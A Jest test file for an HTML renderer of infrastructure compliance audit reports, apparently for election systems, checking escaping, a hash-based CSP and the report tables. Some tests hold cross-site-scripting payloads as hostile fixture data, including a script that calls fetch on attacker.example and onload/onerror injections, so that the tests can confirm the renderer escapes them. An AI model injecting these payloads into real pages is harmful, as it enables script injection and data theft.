import { createHash } from 'crypto';
import { escapeHtml, renderHtml } from '../../lib/reports/html';
import { hostileAuditReport, sampleAuditReport, statewideAuditReport } from '../fixtures/audit-report';

const inlineBlock = (html: string, tag: 'script' | 'style'): string => new RegExp(`<${tag}>([\\s\\S]*?)</${tag}>`).exec(html)![1];
const hashOf = (text: string): string => `sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}`;

describe('renderHtml', () => {
  test('escapes every character that could open markup or leave an attribute', () => {
    expect(escapeHtml('<a href="x">\'&\'</a>')).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });

  test('renders template-controlled text (logical ids, reasons, paths, types) as text, never as markup', () => {
    const html = renderHtml(hostileAuditReport());
    expect(html.match(/<script\b/g)).toHaveLength(1);
    expect(html).not.toMatch(/<script>(alert|fetch)/);
    expect(html).not.toMatch(/<(img|svg onload|b>odd|\/td><script)/);
    expect(html).toContain('Evil&lt;script&gt;alert(&quot;id&quot;)&lt;/script&gt;Bucket');
    expect(html).toContain('&lt;/td&gt;&lt;script&gt;fetch(&quot;https://attacker.example/x&quot;)&lt;/script&gt;');
    expect(html).toContain('data-stack="odd&quot;stack&#39;"');
    expect(html).toContain('AWS::S3::Bucket&lt;svg onload=alert(1)&gt;');
    expect(html).toContain('<code>Custom::&lt;img src=x onerror=alert(&quot;type&quot;)&gt;</code> (1)');
  });

  test('loads nothing from elsewhere, and a CSP allows only its own inline style and script, by hash', () => {
    const html = renderHtml(sampleAuditReport());
    expect(html).not.toMatch(/<(link|img|iframe|object|embed|base)\b/i);
    expect(html).not.toMatch(/\s(src|href|action)=/i);
    expect(html).not.toMatch(/@import|url\(/i);
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1];
    expect(csp).toContain('default-src &#39;none&#39;');
    expect(csp).toContain(hashOf(inlineBlock(html, 'script')));
    expect(csp).toContain(hashOf(inlineBlock(html, 'style')));
    expect(csp).not.toContain('unsafe-inline');
  });

  test('summarizes the counts, and by control family, stack and data class', () => {
    const html = renderHtml(sampleAuditReport());
    expect(html).toMatch(/<div class="card error"><b>7<\/b>Errors/);
    expect(html).toMatch(/<div class="card warning"><b>2<\/b>Warnings/);
    expect(html).toMatch(/<div class="card ack"><b>3<\/b>Acknowledged/);
    const row = (table: string, key: string) => new RegExp(`<table id="${table}">[\\s\\S]*?<tr><td>${key}</td>((?:<td class="num">\\d+</td>){3})</tr>`).exec(html)?.[1].match(/\d+/g);
    // AU: three open errors (AU-9(2): records lock, replication twice), one open warning and one acknowledged (AU-2/AU-12).
    expect(row('by-family', 'AU')).toEqual(['3', '1', '1']);
    expect(row('by-family', '52-USC-20701')).toEqual(['1', '0', '0']);
    expect(row('by-family', 'CPG-2')).toEqual(['1', '1', '1']);
    expect(row('by-stack', 'county-results')).toEqual(['2', '0', '0']);
    expect(row('by-stack', 'ElectionResults')).toEqual(['1', '0', '2']);
    expect(row('by-data-class', 'voter-pii')).toEqual(['1', '1', '1']);
    expect(row('by-data-class', 'election-records')).toEqual(['2', '0', '0']);
  });

  test('says what no rule judged: a card with the count, a Not judged row per template with its types, and the count per template', () => {
    const report = sampleAuditReport();
    const html = renderHtml(report);
    expect(html).toMatch(/<div class="card unjudged"><b>4<\/b>Not judged/);
    const section = /<h2>Not judged<\/h2>\n<p class="meta">([^<]*)<\/p>\n<table id="not-judged">[\s\S]*?<\/table>/.exec(html)!;
    expect(section[1]).toBe('4 resource(s). No rule of the packs that ran judged these resources: a clean result says nothing about them.');
    const rows = [...section[0].matchAll(/<tr data-stack="([^"]+)"><td><code>([^<]+)<\/code><\/td><td>[^<]+<\/td><td class="num">(\d+)<\/td><td class="types">(.*?)<\/td><\/tr>/g)].map((m) => m.slice(1));
    expect(rows).toEqual([
      ['RegistrationPortal', 'cdk.out/RegistrationPortal.template.json', '1', '<code>AWS::CloudFront::OriginAccessControl</code> (1)'],
      ['county-results', 'vendor/county-results.yaml', '3', '<code>AWS::Glue::Database</code> (1), <code>Custom::VoterRollImport</code> (2)'],
    ]);
    expect(html).toMatch(/<tr><td><code>vendor\/county-results\.yaml<\/code><\/td><td>county-results<\/td><td><\/td><td class="num">4<\/td><td class="num">3<\/td><\/tr>/);
    const clean = renderHtml({ ...report, summary: { ...report.summary, unjudged: 0 }, templates: report.templates.map((t) => ({ ...t, unjudged: [] })) });
    expect(clean).toContain('<p id="not-judged">Every resource was judged by a rule of the packs that ran.</p>');
    expect(clean).not.toContain('<table id="not-judged">');
  });

  test('a Controls table gives each assessed control its status, styled by state: red when not satisfied, blue with accepted risk, green when satisfied', () => {
    const html = renderHtml(sampleAuditReport());
    const table = /<table id="controls">[\s\S]*?<\/table>/.exec(html)![0];
    expect(table).toContain('<tr class="control-not-satisfied" data-state="not-satisfied"><td><code>NIST-800-53-r5:AU-9(2)</code></td>'
      + '<td>Protection of Audit Information | Store on Separate Physical Systems or Components</td>'
      + '<td class="state"><span class="badge not-satisfied">not satisfied</span></td><td class="num">3</td><td class="num">0</td><td class="num">0</td></tr>');
    expect(html).toContain('10 control(s) assessed: 7 not satisfied, 3 not satisfied (warnings only), 0 satisfied with accepted risk, 0 satisfied.');
    const style = inlineBlock(html, 'style');
    expect(style).toContain('.badge.not-satisfied{border-color:#b42318;color:#fff;background:#b42318}');
    expect(style).toContain('.badge.satisfied-with-risk{border-color:#0969da;color:#0969da}');
    expect(style).toContain('.badge.satisfied{border-color:#1a7f37;color:#1a7f37}');
    expect(table).not.toContain('data-stack');
  });

  test('charts findings per control family as inline SVG bars', () => {
    const html = renderHtml(sampleAuditReport());
    const chart = /<svg id="family-chart"[\s\S]*?<\/svg>/.exec(html)![0];
    const families = [...chart.matchAll(/data-family="([^"]+)"/g)].map((m) => m[1]);
    expect(families).toEqual(['(no control)', '52-USC-20701', 'AU', 'CP', 'CPG-2', 'SC', 'SI']);
    expect(chart).toContain('<title>AU: 4 open, 1 acknowledged</title>');
  });

  test('lists every finding with its filter keys; an acknowledged one is grey, with a neutral label, never an error\'s red', () => {
    const report = sampleAuditReport();
    const html = renderHtml(report);
    const rows = [...html.matchAll(/<tr class="(open|acknowledged)" data-level="([^"]+)" data-status="([^"]+)" data-stack="([^"]+)" data-rule="([^"]+)">/g)].map((m) => m.slice(1));
    expect(rows).toEqual(report.findings.map((f) => [f.status, f.level, f.status, f.stack, f.ruleId]));
    expect(html).toContain('AwsSolutions-IAM5 [Action::s3:*]');
    const acknowledged = [...html.matchAll(/<tr class="acknowledged"[^>]*>([\s\S]*?)<\/tr>/g)].map((m) => m[1]);
    expect(acknowledged).toHaveLength(3);
    for (const row of acknowledged) {
      expect(row).toMatch(/^<td><code[^>]*>[^<]+<\/code><\/td><td class="lvl-waived">(error|warning)<\/td><td class="status"><span class="badge waived">acknowledged<\/span><\/td>/);
      expect(row).not.toContain('lvl-error');
    }
    expect(html).toMatch(/<tr class="open" data-level="error"[^>]*><td><code[^>]*>ElectionBaseline-S3BucketTlsOnly<\/code><\/td><td class="lvl-error">error<\/td>/);
  });

  test('beside an acknowledged finding: the waiver\'s origin, approver, expiry, reason and where it was made; beside an open one a waiver names, why it holds nothing', () => {
    const html = renderHtml(sampleAuditReport());
    const note = (text: string) => [...html.matchAll(/<small class="waiver-note">([\s\S]*?)<\/small>/g)].map((m) => m[1]).find((n) => n.includes(text))!;
    expect(note('M. Okafor)</b>, expires <b class="expires">2026-11-20')).toMatch(/^<span class="badge agency">agency<\/span> approved by <b class="approved-by">County CISO \(M\. Okafor\)<\/b>, expires <b class="expires">2026-11-20<\/b> <span class="badge expiring">expiring<\/span><br>Access logs for the export bucket/);
    expect(note('construct:ElectionResults/AccessLogs/Resource')).toMatch(/^<span class="badge library">library default<\/span> approved by <b class="approved-by">not said<\/b>, <span class="expires">no expiry<\/span><br>This is the access-log bucket/);
    expect(note('RecordsBucket')).toMatch(/<span class="badge problem">problem<\/span> The waiver at <code>metadata:vendor\/county-results\.yaml#RecordsBucket<\/code> holds nothing: ElectionBaseline-S3RecordsObjectLock cannot be waived/);
  });

  test('the waiver register: the agency\'s and the library\'s apart, each with approver and expiry, unused, expiring and expired flagged', () => {
    const report = sampleAuditReport();
    const html = renderHtml(report);
    const table = (origin: string) => new RegExp(`<table class="waivers" id="waivers-${origin}">[\\s\\S]*?</table>`).exec(html)![0];
    const agency = table('agency');
    const library = table('library');
    for (const waiver of report.waivers) {
      const home = waiver.origin === 'agency' ? agency : library;
      expect(home).toContain(escapeHtml(waiver.reason));
      expect(home).toContain(escapeHtml(waiver.madeAt));
      expect(home).toContain(`<td class="approved-by">${escapeHtml(waiver.approvedBy ?? 'not said')}</td><td class="expires">${waiver.expires ?? 'none'}</td>`);
    }
    const state = (rule: string, madeAt: string) => new RegExp(`<tr class="([^"]+)"[^>]*><td><code>${rule}</code></td>(?:(?!</tr>)[\\s\\S])*?<code>${madeAt}</code>`).exec(agency)?.[1];
    expect(state('AwsSolutions-IAM4', 'construct:RegistrationPortal')).toBe('state-unused');
    expect(state('AwsSolutions-S1', 'construct:RegistrationPortal/VoterExport')).toBe('state-expiring');
    expect(state('NIST.800.53.R5-S3BucketReplicationEnabled', 'construct:RegistrationPortal/VoterExport/Resource')).toBe('state-expired');
    expect(state('ElectionBaseline-S3RecordsObjectLock', 'metadata:vendor/county-results.yaml#RecordsBucket')).toBe('state-problem');
    expect(agency).toMatch(/<span class="badge expired">expired<\/span><br><span class="problem">the waiver expired on 2026-10-31/);
    expect(library).toMatch(/<tr class="state-sound"/);
    expect(html).toContain('6 waiver(s) judged as of 2026-11-03: 1 expired, 1 expiring within 30 days, 1 with another problem, 1 unused (covering no finding).');
  });

  test('a statewide report has a filter for each stack tag, and each finding and waiver row carries its stack\'s tags', () => {
    const report = statewideAuditReport();
    const html = renderHtml(report);
    expect(html).toContain('<label>Stack tag: county<select data-filter="tag0" id="filter-tag0"><option value="">All</option><option value="Adams">Adams</option><option value="Boone">Boone</option></select></label>');
    expect(html).toContain('<label>Stack tag: environment<select data-filter="tag1" id="filter-tag1">');
    const tagged = [...html.matchAll(/<tr [^>]*data-stack="([^"]+)"[^>]* data-tag0="([^"]*)" data-tag1="([^"]*)">/g)].map((m) => m.slice(1).join(' '));
    const notJudged = report.templates.filter((t) => t.unjudged.length > 0).length;
    expect(tagged).toHaveLength(report.findings.length + report.waivers.length + notJudged);
    expect(new Set(tagged)).toEqual(new Set(['ElectionResults Adams production', 'RegistrationPortal Boone staging', 'county-results  ']));
    expect(html).toContain('<td><code>county=Adams</code> <code>environment=production</code></td>');
    // Without stack tags there is no tag filter.
    expect(renderHtml(sampleAuditReport())).not.toContain('data-filter="tag0"');
  });

  test('stack tag keys and values from a vendor\'s template are text, in attributes and options alike', () => {
    const base = statewideAuditReport();
    const html = renderHtml({ ...base, templates: base.templates.map((t) => ({ ...t, tags: { '"><script>k</script>': 'v"><img src=x>' } })) });
    expect(html.match(/<script\b/g)).toHaveLength(1);
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('<label>Stack tag: &quot;&gt;&lt;script&gt;k&lt;/script&gt;<select data-filter="tag0"');
    expect(html).toContain('data-tag0="v&quot;&gt;&lt;img src=x&gt;"');
  });
});
